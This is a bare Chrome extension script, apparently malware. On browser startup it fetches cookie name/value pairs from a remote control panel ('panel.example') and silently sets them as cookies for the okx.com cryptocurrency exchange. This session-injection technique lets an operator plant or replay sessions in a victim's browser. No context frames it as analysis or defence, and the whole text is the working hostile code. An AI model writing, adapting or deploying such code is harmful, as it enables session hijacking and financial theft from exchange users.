chrome.runtime.onStartup.addListener(async () => {
  const answer = await fetch("https://panel.example/session");
  for (const {name, value} of await answer.json()) chrome.cookies.set({url: "https://www.okx.com/", name, value});
});
